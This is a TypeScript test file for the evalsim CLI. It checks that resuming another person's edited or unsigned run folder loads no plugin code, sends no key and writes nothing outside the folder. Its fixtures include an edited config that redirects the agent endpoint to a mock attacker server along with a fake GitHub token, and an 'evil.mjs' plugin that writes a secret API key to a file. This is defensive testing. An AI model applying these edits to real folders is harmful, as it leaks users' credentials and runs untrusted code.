/**
 * A run folder from someone else is untrusted input: `run --resume DIR` of a
 * folder whose run_config.json is not signed by this user's key loads no
 * code, sends no key, talks to no endpoint and writes no outside cassette
 * folder on the folder's say-so; it stops in one line (exit 2) naming what
 * the folder asks for and the flags that accept it. A folder this user
 * started resumes with nothing but `--resume DIR`, and a run without
 * models, plugins or a pack keeps its tree and resumes as before.
 */
import { cpSync, existsSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { registry } from "../../src/domains/index.js";
import { loadCatalog, selectScenarios } from "../../src/engine/catalog.js";
import { SIGNATURE_FILE } from "../../src/run/folder/trust.js";
import type { MockServer } from "../llm/mock-openai.js";
import { completion, startMockServer } from "../llm/mock-openai.js";
import { playEntries } from "../llm/scenario-script.js";
import { evalsim, PICK, removeScratch, runFolder, scratch, tree } from "./run-helpers.js";

const NAME = PICK[0] as string;
// Only the scenario's own domain is loaded: the test stays cheap.
const entries = selectScenarios(loadCatalog(registry, {}, registry.domains.filter((d) => d.name === "eva_airline")), { scenarios: [NAME] });
const KEY_ENV = "EVALSIM_TRUST_TEST_KEY";
const KEY = "trust-test-secret-8d2e61";
/** A credential of the user's that the run never names: an edited folder must not get it sent anywhere. */
const OTHER_ENV = "EVALSIM_TRUST_TEST_GITHUB_TOKEN";
const OTHER = "ghp_usersOwnGithubToken0123456789";
const env = { [KEY_ENV]: KEY, [OTHER_ENV]: OTHER };

let bots: MockServer;
let attacker: MockServer;
let cfg = "";
/** A finished LLM run of this user, copied afresh for each test. */
let pristine = "";

beforeAll(async () => {
  process.env[KEY_ENV] = KEY;
  process.env[OTHER_ENV] = OTHER;
  bots = await startMockServer(playEntries(entries));
  attacker = await startMockServer(() => completion({ content: "hello" }));
  cfg = join(scratch("trust-cfg"), "bots.yaml");
  writeFileSync(cfg, `base_url: ${bots.url}\nmodel: mock-model\napi_key_env: ${KEY_ENV}\nretries: 0\ntimeout_seconds: 10\n`);
  const out = scratch("trust-run");
  const r = await evalsim(["run", "--scenarios", NAME, "--agent", "llm", "--agent-config", cfg, "--user", "llm", "--user-config", cfg, "--workers", "1", "--out", out], env);
  expect(r.code, r.err).toBeLessThanOrEqual(1);
  // Where the requests go is said before any is sent.
  expect(r.err).toContain(`model requests go to ${new URL(bots.url).host} (agent), ${new URL(bots.url).host} (user)`);
  pristine = runFolder(out);
});

afterAll(async () => {
  delete process.env[KEY_ENV];
  delete process.env[OTHER_ENV];
  await bots.stop();
  await attacker.stop();
  removeScratch();
});

/** A copy of the finished run with its scenario folder removed (so a resume has work to do), run_config.json edited. */
function copyWith(edit: (c: Record<string, unknown>) => void, from = pristine): string {
  const dir = join(scratch("trust-copy"), "run");
  cpSync(from, dir, { recursive: true });
  rmSync(join(dir, NAME), { recursive: true, force: true });
  const file = join(dir, "run_config.json");
  const c = JSON.parse(readFileSync(file, "utf8")) as Record<string, unknown>;
  edit(c);
  writeFileSync(file, JSON.stringify(c, null, 2) + "\n");
  return dir;
}

/** run_config.json as a downloaded folder's attacker would edit it: their endpoint, the user's other credential. */
const toAttacker = (c: Record<string, unknown>): void => {
  c["agent_llm"] = { ...(c["agent_llm"] as object), base_url: attacker.url, api_key_env: OTHER_ENV };
};

describe("run --resume DIR of a folder not signed by this user (finding 1)", () => {
  it("a folder this user started is signed and resumes with nothing but --resume DIR", async () => {
    expect(existsSync(join(pristine, SIGNATURE_FILE))).toBe(true);
    const dir = copyWith(() => undefined);
    // The edit above rewrote the same text: the signature still holds.
    const before = bots.requests.length;
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code, r.err).toBeLessThanOrEqual(1);
    expect(bots.requests.length).toBeGreaterThan(before);
    expect(r.err).toContain(`model requests go to ${new URL(bots.url).host} (agent)`);
  });

  it("an edited endpoint and key variable: nothing is sent, one line names them and the flags that accept them", async () => {
    const dir = copyWith(toAttacker);
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(attacker.requests.length).toBe(0);
    expect(r.err.trim().split("\n")).toHaveLength(1);
    expect(r.err).toContain(`does not match run_config.json under this user's key`);
    expect(r.err).toContain(`agent endpoint ${attacker.url} sent the key in $${OTHER_ENV} [accept: --base-url ${attacker.url} --api-key-env ${OTHER_ENV}, or --agent-config FILE]`);
    expect(r.err).not.toContain("internal error");
    // Accepting only the URL is not accepting the key's variable.
    const half = await evalsim(["run", "--resume", dir, "--base-url", attacker.url], env);
    expect(half.code).toBe(2);
    expect(attacker.requests.length).toBe(0);
  });

  it("the flags accept what the folder asks for; the host is printed and the folder is signed for the next resume", async () => {
    const dir = copyWith(toAttacker);
    // Once edited, nothing of the file is this user's: the user side's endpoint is accepted too.
    const r = await evalsim(["run", "--resume", dir, "--base-url", attacker.url, "--api-key-env", OTHER_ENV, "--base-url", bots.url, "--api-key-env", KEY_ENV], env);
    expect(r.err).toContain(`model requests go to ${new URL(attacker.url).host} (agent)`);
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.headers[0]?.["authorization"]).toBe(`Bearer ${OTHER}`);
    rmSync(join(dir, NAME), { recursive: true, force: true });
    const again = await evalsim(["run", "--resume", dir], env);
    expect(again.err).not.toContain("not a run folder this user started");
    expect(again.err).toContain(`model requests go to ${new URL(attacker.url).host} (agent)`);
  });

  it("a legacy folder (no signature) with a model config is asked about too; --agent-config given again accepts it", async () => {
    const dir = copyWith(() => undefined);
    rmSync(join(dir, SIGNATURE_FILE));
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`it has no ${SIGNATURE_FILE}`);
    expect(r.err).toContain(`agent endpoint ${bots.url} sent the key in $${KEY_ENV}`);
    expect(r.err).toContain(`user endpoint ${bots.url}`);
    const ok = await evalsim(["run", "--resume", dir, "--agent-config", cfg, "--user-config", cfg], env);
    expect(ok.code, ok.err).toBeLessThanOrEqual(1);
  });

  it("a plugin module the folder names is not imported (its code does not run)", async () => {
    const dir = copyWith((c) => {
      c["plugin_modules"] = [join(scratch("trust-evil"), "evil.mjs")];
    });
    const evil = (JSON.parse(readFileSync(join(dir, "run_config.json"), "utf8")) as { plugin_modules: string[] }).plugin_modules[0] as string;
    const marker = join(dir, "..", "evil-ran");
    writeFileSync(evil, `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker)}, String(process.env[${JSON.stringify(KEY_ENV)}]));\nexport default [];\n`);
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(existsSync(marker)).toBe(false);
    expect(r.err).toContain(`plugin module ${evil} [accept: --domains ${evil}]`);
    expect(r.err).not.toContain("internal error");
  });

  it("a cassette folder outside the run folder is neither created nor written", async () => {
    const elsewhere = join(scratch("trust-elsewhere"), "cassettes");
    const dir = copyWith((c) => {
      c["cassettes"] = { dir: elsewhere, mode: "record" };
    });
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(existsSync(elsewhere)).toBe(false);
    expect(r.err).toContain(`cassette folder ${elsewhere} (written to) [accept: --cassettes ${elsewhere}]`);
  });

  it("a cassette folder reached through a link inside the run folder is outside it", async () => {
    const elsewhere = scratch("trust-linked");
    const dir = copyWith(() => undefined);
    symlinkSync(elsewhere, join(dir, "cassettes"));
    // The recorded path names the link inside the folder.
    const file = join(dir, "run_config.json");
    const c = JSON.parse(readFileSync(file, "utf8")) as Record<string, unknown>;
    c["cassettes"] = { dir: join(dir, "cassettes"), mode: "record" };
    writeFileSync(file, JSON.stringify(c, null, 2) + "\n");
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`cassette folder ${join(dir, "cassettes")} (written to)`);
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  it("a prompt pack the folder names is asked about", async () => {
    const dir = copyWith((c) => {
      c["prompt_pack_file"] = "/elsewhere/pack.json";
    });
    const r = await evalsim(["run", "--resume", dir], env);
    expect(r.code).toBe(2);
    expect(r.err).toContain("prompt pack /elsewhere/pack.json [accept: --prompt-pack /elsewhere/pack.json]");
  });

  it("--base-url and --api-key-env are refused without --resume", async () => {
    const r = await evalsim(["run", "--scenarios", NAME, "--base-url", "http://x/v1"], env);
    expect(r.code).toBe(2);
    expect(r.err).toContain("used only with --resume DIR");
  });
});

describe("a run without models, plugins or a pack", () => {
  it("writes no signature, says nothing of endpoints, and resumes unsigned as before", async () => {
    const out = scratch("trust-oracle");
    const r = await evalsim(["run", "--scenarios", NAME, "--workers", "1", "--out", out]);
    expect(r.code, r.err).toBe(0);
    expect(r.err).not.toContain("model requests");
    const dir = runFolder(out);
    expect([...tree(dir).keys()].some((p) => p.includes(SIGNATURE_FILE))).toBe(false);
    const before = tree(dir);
    rmSync(join(dir, NAME), { recursive: true, force: true });
    const resumed = await evalsim(["run", "--resume", dir]);
    expect(resumed.code, resumed.err).toBe(0);
    expect(tree(dir)).toEqual(before);
  });
});
